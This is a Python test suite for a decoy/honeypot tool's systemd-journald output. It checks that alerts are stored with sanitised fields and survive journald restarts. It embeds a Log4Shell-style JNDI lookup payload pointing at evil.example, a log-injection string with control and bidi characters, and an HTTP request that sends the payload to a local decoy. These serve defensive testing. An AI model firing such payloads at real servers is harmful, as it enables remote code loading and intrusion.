"""The journal of systemd itself, started here with a /run of its own: what the outlet hands over is read back with journalctl, while the journal is
killed, started anew and away: test_servers_journal.py CALTROP FOLDER OUTLET_TOOL"""
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import unittest

import server_case
from server_case import DEADLINE, FOLDER_OF_OUTLETS, await_that

sys.path.insert(0, str(FOLDER_OF_OUTLETS))
import harness  # noqa: E402  (its folder is known only now)

CALTROP, FOLDER, TOOL = (pathlib.Path(p).resolve() for p in sys.argv[1:4])
harness.TOOL = str(TOOL)
JOURNALD, SOCKET = "/lib/systemd/systemd-journald", pathlib.Path("/run/systemd/journal/socket")
SETTINGS = "[Journal]\nStorage=volatile\nReadKMsg=no\nAudit=no\nRateLimitIntervalSec=0\n"
EVIL = "${jndi:ldap://evil.example:1389/a}"
# As systemd hands a socket over: number 3, and the process that it is for.
LAUNCH = "import os, sys\nos.dup2(int(sys.argv[1]), 3)\nos.environ.update(LISTEN_FDS='1', LISTEN_PID=str(os.getpid()))\nos.execv(sys.argv[2], sys.argv[2:])"


def alert(n, **more):
    return {"@timestamp": "2026-11-25T20:00:00Z", "message": "JNDI payload (exploit) from 10.0.0.7 on web1",
            "event": {"kind": "alert", "dataset": "caltrop.decoy", "action": "jndi-lookup", "id": "%032x" % n, "severity": 99},
            "observer": {"hostname": "web1"}, "source": {"ip": "10.0.0.7"}, "n": n,
            "caltrop": {"actor": "%032x" % 77, "news": "new", "grade": "exploit", "normal": EVIL}, **more}


class Journal(server_case.Case):
    @classmethod
    def setUpClass(cls):
        for program in (JOURNALD, shutil.which("journalctl") or ""):
            if not os.access(program, os.X_OK):
                server_case.skip("no systemd-journald (Debian: systemd)")
        subprocess.run(["mount", "-t", "tmpfs", "none", "/run"], check=True)  # this process and its children alone see it
        (pathlib.Path("/run") / "journald.conf").write_text(SETTINGS, encoding="ascii")
        subprocess.run(["mount", "--bind", "/run/journald.conf", "/etc/systemd/journald.conf"], check=True)
        if not pathlib.Path("/etc/machine-id").exists() or not pathlib.Path("/etc/machine-id").read_text(encoding="ascii").strip():
            server_case.skip("this host has no machine id: the journal keeps nothing")

    def setUp(self):
        self.own = tempfile.TemporaryDirectory(prefix="caltrop-journal-")
        self.addCleanup(self.own.cleanup)
        shutil.rmtree("/run/log", ignore_errors=True)
        shutil.rmtree(SOCKET.parent, ignore_errors=True)
        SOCKET.parent.mkdir(parents=True)
        os.makedirs("/run/log/journal")
        self.tools, self.process, self.held = [], None, None
        self.addCleanup(self.end)

    def end(self):
        for tool in self.tools:
            if tool.process.poll() is None:
                tool.kill()
        self.stop()
        if self.held:
            self.held.close()

    def hold(self):
        """The socket is systemd's and not the journal's: it stays while the journal is away."""
        self.held = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.held.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        self.held.bind(str(SOCKET))
        SOCKET.chmod(0o666)

    def start(self):
        said = open(pathlib.Path(self.own.name) / "said", "ab")
        command = [sys.executable, "-c", LAUNCH, str(self.held.fileno()), JOURNALD] if self.held else [JOURNALD]
        self.process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=said, stderr=said, pass_fds=[self.held.fileno()] if self.held else [])
        said.close()
        await_that(lambda: (SOCKET.parent / "io.systemd.journal").exists() or self.process.poll() is not None, "the journal")
        self.assertIsNone(self.process.poll(), (pathlib.Path(self.own.name) / "said").read_text())

    def stop(self, how=signal.SIGKILL):
        if self.process:
            self.process.send_signal(how)
            self.process.wait(DEADLINE)
            self.process = None
            (SOCKET.parent / "io.systemd.journal").unlink(missing_ok=True)

    def read(self, *options):
        done = subprocess.run(["journalctl", "--directory=/run/log/journal", "--no-pager", "-q", "-o", "json", *options, "SYSLOG_IDENTIFIER=caltrop"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
        return [json.loads(line) for line in done.stdout.splitlines()]

    def entries(self, n):
        return await_that(lambda: got if len(got := self.read("--all")) >= n else None, "%d entries" % n)

    @staticmethod
    def value(entry):
        """journalctl tells values with control characters (here U+007F) as a list of bytes."""
        return json.loads(bytes(v) if isinstance(v := entry["CALTROP_EVENT"], list) else v)

    def tool(self, **options):
        self.tools.append(harness.Tool("journald:", self.own.name + "/spool", step=2000, **options))
        self.assertEqual(self.tools[-1].greeting, "open")
        return self.tools[-1]

    def send(self, tool, n, event):
        text = event if isinstance(event, bytes) else json.dumps(event, separators=(",", ":"), ensure_ascii=False).encode()
        tool.process.stdin.flush()
        tool.process.stdin.buffer.write(b"offer %032x " % n + text + b"\n")
        tool.process.stdin.buffer.flush()
        self.assertEqual(tool.process.stdout.readline().strip(), "ok")

    def test_fields_as_sent(self):
        self.start()
        tool = self.tool()
        hostile = "a\nPRIORITY=0\nMESSAGE=\x00\x1b[2J " + EVIL + " \u00e4\u202e\U0001f512\u2028\x7f =\n"
        events = [alert(0), alert(1, message=hostile, event={"kind": "alert", "dataset": hostile, "action": hostile, "id": hostile, "severity": 73}),
                  alert(2, message=hostile * 900), alert(3, pad="x" * 100000), alert(4, pad="\u00e4" * 400000)]
        for n, event in enumerate(events):
            self.send(tool, n, event)
        self.send(tool, 5, b'{"event":{"kind":"alert","id":"5","severity":47},"message":"\xff\xfe bytes","n":5}')
        tool.close()
        got = self.entries(6)
        self.assertEqual(len(got), 6)
        for n, (event, entry) in enumerate(zip(events, got)):
            self.assertEqual(self.value(entry), event)
            self.assertEqual(entry["PRIORITY"], "3" if n == 1 else "2")
            self.assertEqual(entry["CALTROP_SEVERITY"], "73" if n == 1 else "99")
            self.assertEqual(entry["CALTROP_ACTOR"], "%032x" % 77)
            self.assertEqual((entry["CALTROP_GRADE"], entry["CALTROP_NEWS"], entry["CALTROP_SOURCE"]), ("exploit", "new", "10.0.0.7"))
            for name, value in entry.items():
                if name != "CALTROP_EVENT" and not name.startswith("_"):
                    self.assertIsInstance(value, str, name)  # no list: so it would tell of bytes, and of a field that comes twice
                    self.assertNotRegex(value, r"[\x00-\x1f\x7f\u202a-\u202e\u2028]|\$\{", name)
            self.assertEqual({name for name in entry if not name.startswith("_")}, {"MESSAGE", "PRIORITY", "SYSLOG_IDENTIFIER", "CALTROP_SEVERITY", "CALTROP_ID",
                             "CALTROP_DATASET", "CALTROP_ACTION", "CALTROP_ACTOR", "CALTROP_NEWS", "CALTROP_SOURCE", "CALTROP_GRADE", "CALTROP_EVENT"})
            self.assertEqual(entry["_TRANSPORT"], "journal")
            self.assertEqual(entry["_PID"], str(tool.process.pid))
        self.assertEqual(got[0]["CALTROP_ID"], "%032x" % 0)
        self.assertEqual(bytes(got[5]["CALTROP_EVENT"]), b'{"event":{"kind":"alert","id":"5","severity":47},"message":"\xff\xfe bytes","n":5}')
        # Found by actor, as the documents say; large fields are left out unless asked for.
        self.assertEqual(len(self.read("CALTROP_ACTOR=%032x" % 77)), 5)
        self.assertIsNone(self.read()[3]["CALTROP_EVENT"])

    def numbers(self):
        return [self.value(e)["n"] for e in self.read("--all")]

    def test_killed_and_started_anew(self):
        """Under systemd the socket outlives the journal: nothing is lost."""
        self.hold()
        self.start()
        tool = self.tool()
        n = 0
        for round_ in range(5):
            for _ in range(40):
                self.send(tool, n, alert(n, pad="x" * (300000 if n % 10 == 0 else 10000)))
                n += 1
                if n % 40 == 20 and round_ % 2:
                    await_that(lambda n=n: len(self.numbers()) >= n, "entries up to %d" % n)  # killed with one in hand it would lose that one
                    self.stop(signal.SIGKILL)
                elif n % 40 == 20:
                    self.stop(signal.SIGTERM)
            if round_ == 2:
                tool.await_stats(lambda s: s["waiting"] > 0 and s["failures"] > 0)  # its queue is full: the spool holds the rest
                tool.kill()
                tool = self.tool()
            self.start()
            tool.await_stats(lambda s: s["waiting"] == 0)
            await_that(lambda n=n: len(self.numbers()) >= n, "entries up to %d" % n)
        tool.close()
        self.assertEqual(sorted(set(self.numbers())), list(range(n)))

    def test_away_with_its_socket(self):
        tool = self.tool()
        for n in range(5):
            self.send(tool, n, alert(n))
        tool.await_stats(lambda s: s["failures"] > 1)
        self.start()
        tool.await_stats(lambda s: s["waiting"] == 0)
        self.entries(5)
        self.stop(signal.SIGTERM)  # and a dead socket stays
        for n in range(5, 10):
            self.send(tool, n, alert(n))
        tool.await_stats(lambda s: s["failures"] > 3 and s["waiting"] == 5)
        self.start()
        tool.await_stats(lambda s: s["waiting"] == 0)
        tool.close()
        self.entries(10)
        self.assertEqual(self.numbers(), list(range(10)))

    def test_a_decoy_tells_the_journal(self):
        self.start()
        data = pathlib.Path(self.own.name) / "data"
        said = open(data.with_name("decoy-said"), "wb")
        decoy = subprocess.Popen([CALTROP, "decoy", "--unprivileged", "-q", "--answer-port", "8080", "--data-dir", data, "--to", "journald:"],
                                 stdin=subprocess.DEVNULL, stdout=said, stderr=said)
        try:
            await_that(lambda: [e for e in self.read() if e["MESSAGE"].endswith(" is alive")] or decoy.poll() is not None, "the decoy's heartbeat")
            with socket.create_connection(("127.0.0.1", 8080), DEADLINE, ("127.0.0.7", 0)) as s:
                s.sendall(b"GET /" + EVIL.encode() + b" HTTP/1.1\r\nHost: a\r\n\r\n")
                s.recv(4096)
            entry = await_that(lambda: [e for e in self.read("--all") if e.get("CALTROP_NEWS") == "new"], "the alert")[0]
        finally:
            decoy.send_signal(signal.SIGTERM)
            status = decoy.wait(DEADLINE)
            said.close()
        self.assertEqual(status, 0, data.with_name("decoy-said").read_text())
        event = json.loads(entry["CALTROP_EVENT"])
        self.assertEqual(event["caltrop"]["normal"], EVIL)
        self.assertEqual((entry["CALTROP_SOURCE"], entry["PRIORITY"], entry["MESSAGE"]), ("127.0.0.7", "2", event["message"]))
        self.assertEqual((entry["CALTROP_ID"], entry["CALTROP_ACTOR"]), (event["event"]["id"], event["caltrop"]["actor"]))


if __name__ == "__main__":
    server_case.enter(FOLDER)
    unittest.main(argv=sys.argv[:1] + sys.argv[4:], verbosity=2)
